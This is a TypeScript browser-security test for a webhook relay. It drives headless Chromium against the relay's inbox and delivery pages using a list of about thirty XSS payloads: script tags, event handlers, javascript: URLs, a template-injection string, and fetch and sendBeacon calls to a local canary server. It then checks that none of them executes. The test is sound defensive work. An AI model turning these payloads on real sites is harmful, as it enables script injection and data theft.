import { existsSync } from "node:fs"
import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { type Browser, chromium, type Page } from "playwright-core"
import { expect, onTestFinished, test } from "vitest"
import type { Headers } from "../../src/domain/headers.ts"
import { connectListener } from "../support/fake-listener.ts"
import { startTestRelay } from "../support/test-relay.ts"
import { inboxUrlOf } from "../relay/hub/inbox-rig.ts"
import { figures } from "./support/figures.ts"

const CHROMIUM = "/usr/bin/chromium"
const QUIET = [
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
]
const isThere = existsSync(CHROMIUM)

/** Another origin, which notes everybody who comes. */
async function startCanary(): Promise<{ readonly url: string; readonly seen: string[] }> {
  const seen: string[] = []
  const server = createServer((request, response) => {
    seen.push(request.url ?? "")
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  onTestFinished(() => void server.close())
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen }
}

/** Ways to run a script or to leave for another origin, each calling `run()` or naming the canary. */
function payloads(canary: string): string[] {
  const run = `document.title='ran';fetch('${canary}/ran');alert(1)`
  return [
    `<script>${run}</script>`,
    `<script src="${canary}/s.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<svg onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<body onload="${run}">`,
    `<iframe srcdoc="<script>parent.document.title='ran'</script>">`,
    `<iframe src="javascript:${run}">`,
    `<object data="javascript:${run}">`,
    `<embed src="javascript:${run}">`,
    `<details open ontoggle="${run}">`,
    `<input autofocus onfocus="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<audio src=x onerror="${run}">`,
    `<marquee onstart="${run}">`,
    `<math><a xlink:href="javascript:${run}">x</a></math>`,
    `"><script>${run}</script>`,
    `'-${run}-'`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `<!--><script>${run}</script-->`,
    `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
    `<form action="javascript:${run}"><button autofocus onfocus="${run}">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<base href="${canary}/"><script src="s.js"></script>`,
    `<template><script>${run}</script></template>`,
    `<style>@import '${canary}/c.css';</style><script>${run}</script>`,
    `\u2028<script>${run}</script>`,
    `{{constructor.constructor("${run}")()}}`,
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
    `<script>navigator.sendBeacon('${canary}/beacon');${run}</script>`,
    `<script>fetch('/v1/deliveries').then(r=>r.text()).then(t=>{document.title='ran'})</script>`,
  ]
}

test.skipIf(!isThere)(
  `A4: no payload in a delivery or an answer runs in a browser, or makes it leave${isThere ? "" : ` (SKIPPED: no ${CHROMIUM})`}`,
  async ({ task }) => {
    await using relay = await startTestRelay()
    const canary = await startCanary()
    const listener = await connectListener(relay, { maxInFlight: 100 })
    const inbox = await inboxUrlOf(listener)
    const browser: Browser = await chromium.launch({ executablePath: CHROMIUM, args: QUIET })
    onTestFinished(() => browser.close())
    const page: Page = await browser.newPage({ extraHTTPHeaders: { authorization: `Bearer ${relay.key}` } })
    let dialogs = 0
    page.on("dialog", (dialog) => {
      dialogs += 1
      void dialog.dismiss()
    })
    const left: string[] = []
    page.on("request", (request) => {
      if (!request.url().startsWith(relay.url) && !/^(data|about|blob):/.test(request.url()))
        left.push(request.url())
    })
    let ran = 0
    let html = 0
    async function open(url: string): Promise<void> {
      const answer = await page.goto(url, { waitUntil: "load" }).catch(() => null)
      if ((await page.title().catch(() => "")) === "ran") ran += 1
      const type = answer?.headers()["content-type"] ?? ""
      if (!url.startsWith(inbox) && /html|svg|xml/.test(type)) html += 1
    }

    const all = payloads(canary.url)
    const types: readonly Headers[] = [
      [["Content-Type", "text/html"]],
      [["Content-Type", "image/svg+xml"]],
      [["Content-Type", "application/xhtml+xml"]],
      [],
    ]
    let asked = 0
    for (const [index, payload] of all.entries()) {
      const headers = types[index % types.length]!
      const opening = open(`${inbox}/${encodeURIComponent(payload)}?q=${encodeURIComponent(payload)}`)
      const request = await listener.frame("request", asked)
      asked += 1
      // What a page loads beside itself from the inbox's address would be a further request.
      listener.answer(request, { body: payload, headers })
      await opening
      const sending = fetch(inbox, {
        method: "POST",
        headers: { "x-webhook-event": encodeURIComponent(payload), "x-payload": encodeURIComponent(payload) },
        body: payload,
      })
      const posted = await listener.frame("request", asked)
      asked += 1
      listener.answer(posted)
      await (await sending).arrayBuffer()
      await open(`${relay.url}/v1/deliveries/${posted.info.delivery}`)
      await open(`${relay.url}/v1/deliveries?event=${encodeURIComponent(payload)}`)
      await open(`${relay.url}/${encodeURIComponent(payload)}`)
      await open(`${relay.url}/v1/${encodeURIComponent(payload)}`)
    }
    figures(task, {
      payloads: all.length,
      "pages opened": all.length * 5,
      ran,
      dialogs,
      "left for another origin": left.length + canary.seen.length,
      "own answers that are pages": html,
    })
    expect({ ran, dialogs, html, left, seen: canary.seen }).toEqual({
      ran: 0,
      dialogs: 0,
      html: 0,
      left: [],
      seen: [],
    })
  },
)
